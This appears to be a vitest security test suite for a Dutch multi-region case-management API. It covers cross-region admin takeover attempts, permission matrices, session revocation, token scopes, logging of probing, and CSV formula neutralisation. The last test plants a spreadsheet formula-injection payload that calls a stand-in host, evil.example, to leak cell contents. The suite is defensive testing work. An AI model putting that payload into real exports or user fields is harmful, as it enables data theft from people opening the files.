/**
 * The authority model tried as an attacker would (issue 8): the takeover of one region by the admin of
 * another, replayed step by step; a role × region × route matrix for users with grants in two
 * regions; revocation of sessions and tokens on every trigger; token scopes; password changes;
 * security events for refused requests and the privacy officer's view of them.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { can, type Permission, type Role } from '../src/core/roles.js';
import { DEMO_PASSWORD, DEMO_TOTP_SECRET } from '../src/demo/seed.js';
import { grantRoleDirectly } from '../src/modules/auth/test-support.js';
import { exportAccessLog } from '../src/modules/exports/test-support.js';
import { withTx } from '../src/platform/db/database.js';
import { expectProblem, firstSignIn, organisationId, userIdByEmail } from './fixtures.js';
import { type Client, startTestApp, type TestApp, totpNow } from './harness.js';

let t: TestApp;
let admin: Client; // beheer@delft.demo: admin of Haaglanden, and creator (first admin) of region B
let haaglanden: string;
let regionB: string;
let adminB: Client; // an admin whose organisation's home region is B
let delftCaseId: string;

/** An organisation homed in the region, with an admin account (demo password and TOTP secret). */
async function homedAdmin(regionId: string, code: string): Promise<string> {
  const owner = t.db.owner;
  const { password_hash } = await owner
    .selectFrom('users')
    .select('password_hash')
    .where('email', '=', 'beheer@delft.demo')
    .executeTakeFirstOrThrow();
  const org = await withTx(t.db, { regionId }, async (tx) => {
    const o = await tx
      .insertInto('organisations')
      .values({ name: `Gemeente ${code}`, type: 'municipality', home_region_id: regionId })
      .returning('id')
      .executeTakeFirstOrThrow();
    await tx.insertInto('region_organisations').values({ region_id: regionId, organisation_id: o.id }).execute();
    return o.id;
  });
  const email = `beheer@${code}.test`;
  const user = await owner
    .insertInto('users')
    .values({
      email,
      name: `Beheer ${code}`,
      organisation_id: org,
      password_hash,
      totp_secret: t.deps.secrets.seal(DEMO_TOTP_SECRET),
      totp_enrolled_at: new Date(),
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  await grantRoleDirectly(t.db, { userId: user.id, regionId, role: 'admin' });
  return email;
}

async function inRegion(c: Client, regionId: string) {
  const res = await c.put('/api/v1/me/region', { regionId });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
}

beforeAll(async () => {
  t = await startTestApp({ jobs: true });
  admin = await t.signIn('beheer@delft.demo');
  haaglanden = (await admin.get('/api/v1/me')).body.region.id;
  const director = await t.signIn('regisseur@delft.demo');
  delftCaseId = (await director.get('/api/v1/cases?limit=1')).body.items[0].id;
  // Step 1 of the attack: an admin of Haaglanden creates region B; Gemeente Delft takes part in it.
  const created = await admin.post('/api/v1/regions', { code: 'regio-b', name: 'Regio B' });
  expect(created.status).toBe(201);
  regionB = created.body.id;
  adminB = await t.signIn(await homedAdmin(regionB, 'regio-b'));
  await inRegion(admin, regionB);
});
afterAll(async () => {
  await t?.close();
});

describe('the takeover of one region by the admin of another, replayed', () => {
  it('B’s admins see none of Delft’s accounts', async () => {
    for (const c of [admin, adminB]) {
      const users = (await c.get('/api/v1/users?limit=200')).body.items as Array<{ email: string }>;
      const emails = users.map((u) => u.email);
      expect(emails).not.toContain('regisseur@delft.demo');
      expect(emails).not.toContain('coordinator@delft.demo');
      // Only B's own accounts and who holds a grant in B (the region's creator).
      expect(emails.sort()).toEqual(['beheer@delft.demo', 'beheer@regio-b.test']);
    }
  });

  it('B cannot create an account in Gemeente Delft (its home region is Haaglanden)', async () => {
    const delft = await organisationId(adminB, 'Gemeente Delft');
    const res = await adminB.post('/api/v1/users', {
      email: 'indringer@delft.demo',
      name: 'Indringer',
      role: 'process_director',
      organisationId: delft,
      initialPassword: 'een-heel-lang-wachtwoord',
    });
    expectProblem(res, 422, 'BUSINESS_RULE');
    expect(res.body.errors[0].location.pointer).toBe('/organisationId');
    expect(
      await t.db.owner.selectFrom('users').select('id').where('email', '=', 'indringer@delft.demo').executeTakeFirst(),
    ).toBeUndefined();
  });

  it('B cannot touch a Delft account: 404 on read, change, second-factor and password reset', async () => {
    const target = await userIdByEmail(t, 'regisseur@delft.demo');
    const before = await t.db.owner
      .selectFrom('users')
      .select(['version', 'totp_enrolled_at', 'password_hash'])
      .where('id', '=', target)
      .executeTakeFirstOrThrow();
    for (const c of [admin, adminB]) {
      expectProblem(await c.get(`/api/v1/users/${target}`), 404, 'NOT_FOUND');
      expectProblem(await c.post(`/api/v1/users/${target}/second-factor-reset`, {}), 404, 'NOT_FOUND');
      expectProblem(
        await c.post(`/api/v1/users/${target}/password-reset`, {
          temporaryPassword: 'overname-wachtwoord-2026',
          version: before.version,
        }),
        404,
        'NOT_FOUND',
      );
      expectProblem(
        await c.put(`/api/v1/users/${target}`, {
          name: 'Overgenomen',
          organisationId: await organisationId(c, 'Gemeente Delft'),
          locale: 'nl',
          disabled: true,
          version: before.version,
        }),
        404,
        'NOT_FOUND',
      );
    }
    const after = await t.db.owner
      .selectFrom('users')
      .select(['version', 'totp_enrolled_at', 'password_hash'])
      .where('id', '=', target)
      .executeTakeFirstOrThrow();
    expect(after).toEqual(before);
    // The Delft process director still signs in to Haaglanden and reads his cases.
    const director = await t.signIn('regisseur@delft.demo');
    expect((await director.get(`/api/v1/cases/${delftCaseId}`)).status).toBe(200);
  });

  it('B cannot rename Gemeente Delft either: only its home region changes an organisation', async () => {
    const delft = (await adminB.get('/api/v1/organisations')).body.items.find(
      (o: { name: string }) => o.name === 'Gemeente Delft',
    );
    expect(delft.administered).toBe(false);
    expectProblem(
      await adminB.patch(`/api/v1/organisations/${delft.id}`, {
        name: 'Gemeente Overgenomen',
        type: 'municipality',
        version: delft.version,
      }),
      403,
    );
    const director = await t.signIn('regisseur@delft.demo');
    expect((await director.get('/api/v1/me')).body.user.organisation.name).toBe('Gemeente Delft');
  });

  it('B never grants anything in Haaglanden, nor sees its grants', async () => {
    const grantInA = await withTx(t.db, { regionId: haaglanden }, (tx) =>
      tx.selectFrom('role_grants').select(['id', 'version']).where('status', '=', 'active').executeTakeFirstOrThrow(),
    );
    for (const c of [admin, adminB]) {
      expectProblem(await c.get(`/api/v1/role-grants/${grantInA.id}`), 404);
      expectProblem(
        await c.post(`/api/v1/role-grants/${grantInA.id}/revocation`, {
          version: grantInA.version,
          reason: 'Overname',
        }),
        404,
      );
    }
    // A request made in B is a request in B, whoever it names.
    const regisseur = await adminB.post('/api/v1/role-grants', {
      email: 'regisseur@delft.demo',
      role: 'process_director',
      reason: 'Werkt ook voor regio B',
    });
    expect(regisseur.status, JSON.stringify(regisseur.body)).toBe(201);
    const approved = await admin.post(`/api/v1/role-grants/${regisseur.body.id}/approval`, {
      version: regisseur.body.version,
    });
    expect(approved.status).toBe(200);
    // Now he works in B too — and in B he sees B's cases, none of Haaglanden's.
    const director = await t.signIn('regisseur@delft.demo');
    await inRegion(director, regionB);
    expect((await director.get('/api/v1/cases')).body.items).toEqual([]);
    expectProblem(await director.get(`/api/v1/cases/${delftCaseId}`), 404);
    // Nobody outside B's organisations can be named.
    expectProblem(
      await adminB.post('/api/v1/role-grants', { email: 'politie@politie.demo', role: 'partner', reason: 'x' }),
      422,
    );
  });

  it('an account made in B cannot enter Haaglanden', async () => {
    const orgB = await organisationId(adminB, 'Gemeente regio-b');
    const created = await adminB.post('/api/v1/users', {
      email: 'nieuw@regio-b.test',
      name: 'Nieuw B',
      role: 'process_director',
      organisationId: orgB,
      initialPassword: 'een-heel-lang-wachtwoord',
    });
    expect(created.status).toBe(201);
    const request = (await admin.get(`/api/v1/role-grants?userId=${created.body.id}&status=requested`)).body.items[0];
    expect((await admin.post(`/api/v1/role-grants/${request.id}/approval`, { version: request.version })).status).toBe(
      200,
    );
    const c = await firstSignIn(t, 'nieuw@regio-b.test', 'een-heel-lang-wachtwoord', 'eigen-wachtwoord-van-b-2026');
    expect((await c.get('/api/v1/me')).body.regions.map((r: { id: string }) => r.id)).toEqual([regionB]);
    // (Still enrolling its second factor, it may not even try: 403; enrolled, it would get 422.)
    const switched = await c.put('/api/v1/me/region', { regionId: haaglanden });
    expect([403, 422]).toContain(switched.status);
    expect((await c.get('/api/v1/me')).body.region.id).toBe(regionB);
  });
});

/** Permissions per role, for the probes below (the table itself is tested in test/permissions.test.ts). */
const PROBES: Array<{ path: string; needs: Permission }> = [
  { path: '/users', needs: 'users:read' },
  { path: '/role-grants', needs: 'users:read' },
  { path: '/access-log', needs: 'access-log:read' },
  { path: '/cases', needs: 'cases:work' },
  { path: '/signals', needs: 'cases:work' },
  { path: '/priority-list', needs: 'cases:work' },
  { path: '/key-figures', needs: 'programme:contacts' },
  { path: '/dashboard', needs: 'reports:read' },
  { path: '/organisations', needs: 'organisations:read' },
  { path: '/me/api-tokens', needs: 'tokens:own' },
];

describe('role × region × route: users with grants in two regions', () => {
  // In Haaglanden each keeps the demo role; in B each gets another one.
  const TWO_REGIONS: Array<{ email: string; a: Role; b: Role }> = [
    { email: 'regisseur@delft.demo', a: 'process_director', b: 'process_director' },
    { email: 'coordinator@delft.demo', a: 'case_coordinator', b: 'privacy_officer' },
    { email: 'fg@delft.demo', a: 'privacy_officer', b: 'executive' },
    { email: 'beleid@delft.demo', a: 'policy_officer', b: 'network_director' },
    { email: 'netwerk@delft.demo', a: 'network_director', b: 'case_coordinator' },
    { email: 'burgemeester@delft.demo', a: 'executive', b: 'admin' },
  ];

  beforeAll(async () => {
    for (const u of TWO_REGIONS.filter((x) => x.email !== 'regisseur@delft.demo')) {
      const asked = await admin.post('/api/v1/role-grants', { email: u.email, role: u.b, reason: 'Matrix' });
      expect(asked.status, JSON.stringify(asked.body)).toBe(201);
      if (asked.body.status === 'requested') {
        const ok = await adminB.post(`/api/v1/role-grants/${asked.body.id}/approval`, { version: asked.body.version });
        expect(ok.status, JSON.stringify(ok.body)).toBe(200);
      }
    }
  });

  it('allows exactly what the role in the region allows, and nothing of the other region', async () => {
    const unexpected: string[] = [];
    let calls = 0;
    for (const u of TWO_REGIONS) {
      const c = await t.signIn(u.email);
      for (const [region, role] of [
        [haaglanden, u.a],
        [regionB, u.b],
      ] as const) {
        await inRegion(c, region);
        expect((await c.get('/api/v1/me')).body.user.role).toBe(role);
        for (const p of PROBES) {
          const res = await c.get(`/api/v1${p.path}`);
          calls++;
          const allowed = res.status === 200;
          if (allowed !== can(role, p.needs)) unexpected.push(`${u.email} as ${role}: GET ${p.path} → ${res.status}`);
        }
        // A case of Haaglanden is never reachable from B.
        if (region === regionB) {
          const res = await c.get(`/api/v1/cases/${delftCaseId}`);
          calls++;
          if (res.status !== 404 && res.status !== 403)
            unexpected.push(`${u.email} in B: GET /cases/{A} → ${res.status}`);
        }
      }
    }
    expect(unexpected).toEqual([]);
    expect(calls).toBeGreaterThan(100);
  });

  it('an API token acts in the region it was made in, with the role there', async () => {
    const c = await t.signIn('coordinator@delft.demo');
    await inRegion(c, regionB);
    const token = (
      await c.post('/api/v1/me/api-tokens', { name: 'B', expiresInDays: 1, access: 'read', resources: null })
    ).body.token;
    const bearer = t.client();
    bearer.bearer = token;
    expect((await bearer.get('/api/v1/me')).body).toMatchObject({
      region: { id: regionB },
      user: { role: 'privacy_officer' },
    });
    expectProblem(await bearer.get('/api/v1/cases'), 403);
    expectProblem(await bearer.put('/api/v1/me/region', { regionId: haaglanden }), 403);
  });
});

describe('revocation that bites', () => {
  /** A second session and a token of the user; both must die on the trigger. */
  async function holdings(email: string) {
    const session = await t.signIn(email);
    const token = (
      await session.post('/api/v1/me/api-tokens', {
        name: 'houder',
        expiresInDays: 7,
        access: 'read_write',
        resources: null,
      })
    ).body.token as string;
    const bearer = t.client();
    bearer.bearer = token;
    expect((await session.get('/api/v1/me')).status).toBe(200);
    expect((await bearer.get('/api/v1/me')).status).toBe(200);
    return {
      async expectEnded() {
        expectProblem(await session.get('/api/v1/me'), 401);
        expectProblem(await bearer.get('/api/v1/me'), 401);
      },
    };
  }

  const versionOf = async (email: string) =>
    (await t.db.owner.selectFrom('users').select('version').where('email', '=', email).executeTakeFirstOrThrow())
      .version;

  beforeAll(async () => {
    await inRegion(admin, haaglanden);
  });

  it('second-factor reset', async () => {
    const h = await holdings('expert@pool.demo');
    const id = await userIdByEmail(t, 'expert@pool.demo');
    expect((await admin.post(`/api/v1/users/${id}/second-factor-reset`, {})).status).toBe(200);
    await h.expectEnded();
  });

  it('password reset by an admin: the temporary password must be changed at the next sign-in', async () => {
    const email = 'politie@politie.demo';
    const h = await holdings(email);
    const id = await userIdByEmail(t, email);
    const weak = await admin.post(`/api/v1/users/${id}/password-reset`, {
      temporaryPassword: 'Welkom12345!',
      version: await versionOf(email),
    });
    expectProblem(weak, 422, 'BUSINESS_RULE');
    expect(weak.body.errors[0]).toMatchObject({ location: { pointer: '/temporaryPassword' }, code: 'password_common' });
    const res = await admin.post(`/api/v1/users/${id}/password-reset`, {
      temporaryPassword: 'tijdelijke-toegang-2026-x',
      version: await versionOf(email),
    });
    expect(res.status).toBe(200);
    expect(res.body.passwordMustChange).toBe(true);
    await h.expectEnded();

    const c = t.client();
    const login = await c.post('/api/v1/auth/login', {
      email,
      password: 'tijdelijke-toegang-2026-x',
      totp: await totpNow(),
    });
    expect(login.status).toBe(200);
    expect(login.body.mustChangePassword).toBe(true);
    expectProblem(await c.get('/api/v1/cases'), 403, 'PASSWORD_CHANGE_REQUIRED');
    expectProblem(
      await c.post('/api/v1/me/api-tokens', { name: 'x', expiresInDays: 1, access: 'read', resources: null }),
      403,
      'PASSWORD_CHANGE_REQUIRED',
    );
    const changed = await c.put('/api/v1/me/password', {
      currentPassword: 'tijdelijke-toegang-2026-x',
      newPassword: 'mijn-eigen-geheime-zin-77',
    });
    expect(changed.status, JSON.stringify(changed.body)).toBe(200);
    expect(changed.body.mustChangePassword).toBe(false);
    expect((await c.get('/api/v1/cases')).status).toBe(200);
  });

  it('own password change: other sessions and tokens end, this one goes on under a new id', async () => {
    const email = 'ggz@ggz.demo';
    const h = await holdings(email);
    const c = await t.signIn(email);
    const oldCookie = c.cookie;
    const wrong = await c.put('/api/v1/me/password', { currentPassword: 'fout', newPassword: 'een-goede-nieuwe-zin' });
    expectProblem(wrong, 422, 'BUSINESS_RULE');
    expect(wrong.body.errors[0].location.pointer).toBe('/currentPassword');
    const weak = await c.put('/api/v1/me/password', { currentPassword: DEMO_PASSWORD, newPassword: 'qwerty123456' });
    expectProblem(weak, 422, 'BUSINESS_RULE');
    expect(weak.body.errors.map((e: { code: string }) => e.code)).toContain('password_common');
    const ok = await c.put('/api/v1/me/password', {
      currentPassword: DEMO_PASSWORD,
      newPassword: 'een-goede-nieuwe-zin',
    });
    expect(ok.status).toBe(200);
    expect(c.cookie).not.toBe(oldCookie);
    expect((await c.get('/api/v1/me')).status).toBe(200);
    await h.expectEnded();
    const old = t.client();
    old.cookie = oldCookie;
    expectProblem(await old.get('/api/v1/me'), 401);
    const withOld = await t
      .client()
      .post('/api/v1/auth/login', { email, password: DEMO_PASSWORD, totp: await totpNow() });
    expectProblem(withOld, 401, 'INVALID_CREDENTIALS');
  });

  it('a changed grant', async () => {
    const email = 'netwerk@delft.demo';
    const h = await holdings(email);
    const id = await userIdByEmail(t, email);
    const res = await admin.post('/api/v1/role-grants', { userId: id, role: 'executive', reason: 'Andere taak' });
    expect(res.body.status).toBe('active');
    await h.expectEnded();
  });

  it('disabling', async () => {
    const email = 'beleid@delft.demo';
    const h = await holdings(email);
    const id = await userIdByEmail(t, email);
    const user = (await admin.get(`/api/v1/users/${id}`)).body;
    const res = await admin.put(`/api/v1/users/${id}`, {
      name: user.name,
      organisationId: user.organisationId,
      locale: user.locale,
      disabled: true,
      version: user.version,
    });
    expect(res.status).toBe(200);
    await h.expectEnded();
  });
});

describe('token scopes', () => {
  let director: Client;
  beforeAll(async () => {
    director = await t.signIn('regisseur@delft.demo');
  });

  const tokenClient = async (access: 'read' | 'read_write', resources: string[] | null) => {
    const res = await director.post('/api/v1/me/api-tokens', { name: 'scope', expiresInDays: 1, access, resources });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ access, resources });
    const c = t.client();
    c.bearer = res.body.token;
    return c;
  };

  it('a read-only token reads and is refused every write (403, logged)', async () => {
    const c = await tokenClient('read', null);
    expect((await c.get('/api/v1/cases')).status).toBe(200);
    const write = await c.post('/api/v1/persons', { firstName: 'Token', lastName: 'Schrijft' });
    expectProblem(write, 403, 'TOKEN_SCOPE');
    const events = await withTx(t.db, { regionId: haaglanden }, (tx) =>
      tx.selectFrom('security_events').selectAll().where('code', '=', 'TOKEN_SCOPE').execute(),
    );
    expect(events.some((e) => e.via === 'token' && e.route === '/api/v1/persons')).toBe(true);
  });

  it('a token for signals reaches signals only', async () => {
    const c = await tokenClient('read_write', ['signals']);
    expect((await c.get('/api/v1/signals')).status).toBe(200);
    expectProblem(await c.get('/api/v1/cases'), 403, 'TOKEN_SCOPE');
    expectProblem(await c.get(`/api/v1/cases/${delftCaseId}`), 403, 'TOKEN_SCOPE');
    expect((await c.get('/api/v1/me')).status).toBe(200);
  });

  it('names only real resources, and lists them', async () => {
    const list = await director.get('/api/v1/me/api-tokens/resources');
    expect(list.body.items).toEqual(expect.arrayContaining(['cases', 'signals', 'persons', 'access-log']));
    expect(list.body.items).not.toContain('me');
    const res = await director.post('/api/v1/me/api-tokens', {
      name: 'fout',
      expiresInDays: 1,
      access: 'read',
      resources: ['cases', 'everything'],
    });
    expectProblem(res, 400, 'INVALID_INPUT');
    expect(res.body.errors.map((e: { location: { pointer: string } }) => e.location.pointer)).toEqual(['/resources/1']);
  });
});

describe('probing is visible', () => {
  it('a refused read of a case (404) and a 403 are security events without any record id; the privacy officer sees the prober', async () => {
    // Rijswijk's process director probes a case of Delft, and ids at random.
    const partner = await t.signIn('regisseur@rijswijk.demo');
    const hidden = { id: delftCaseId };
    const userId = await userIdByEmail(t, 'regisseur@rijswijk.demo');
    const before = await withTx(t.db, { regionId: haaglanden }, (tx) =>
      tx.selectFrom('security_events').select('id').where('user_id', '=', userId).execute(),
    );
    expectProblem(await partner.get(`/api/v1/cases/${hidden.id}`), 404);
    for (let i = 0; i < 6; i++) expectProblem(await partner.get(`/api/v1/cases/${randomUUID()}`), 404);
    expectProblem(await partner.get('/api/v1/users'), 403);
    const events = await withTx(t.db, { regionId: haaglanden }, (tx) =>
      tx.selectFrom('security_events').selectAll().where('user_id', '=', userId).orderBy('id').execute(),
    );
    const added = events.slice(before.length);
    expect(added).toHaveLength(8);
    expect(added[0]).toMatchObject({
      method: 'GET',
      route: '/api/v1/cases/:id',
      record_type: 'cases',
      status: 404,
      code: 'NOT_FOUND',
      role: 'process_director',
    });
    expect(added[7]).toMatchObject({ route: '/api/v1/users', status: 403, code: 'FORBIDDEN' });
    expect(JSON.stringify(added)).not.toContain(hidden.id);

    const fg = await t.signIn('fg@delft.demo');
    const anomalies = await fg.get('/api/v1/access-log/anomalies?kind=refusals');
    expect(anomalies.status).toBe(200);
    const mine = anomalies.body.items.find((a: { actorUserId: string }) => a.actorUserId === userId);
    expect(mine).toMatchObject({ kind: 'refusals', actorName: 'Rik Regisseur', distinctPersons: null });
    expect(mine.refusals).toBeGreaterThanOrEqual(8);
    expect(mine.refusedRoutes).toEqual(expect.arrayContaining(['GET /api/v1/cases/:id', 'GET /api/v1/users']));
    // Below the threshold nobody shows.
    const high = await fg.get('/api/v1/access-log/anomalies?kind=refusals&threshold=1000');
    expect(high.body.items).toEqual([]);
  });
});

describe('CSV exports neutralise formulas', () => {
  it('a name like =HYPERLINK(…) reaches the access-log CSV as text', async () => {
    const id = await userIdByEmail(t, 'coordinator@delft.demo');
    const evil = '=HYPERLINK("http://evil.example/?"&A2,"klik")';
    await t.db.owner.updateTable('users').set({ name: evil }).where('id', '=', id).execute();
    // The user reads cases: entries in the log with that name as the actor's.
    const evilClient = await t.signIn('coordinator@delft.demo');
    expect((await evilClient.get('/api/v1/cases')).status).toBe(200);
    const fg = await t.signIn('fg@delft.demo');
    const text = await exportAccessLog(fg, { actorUserId: id });
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
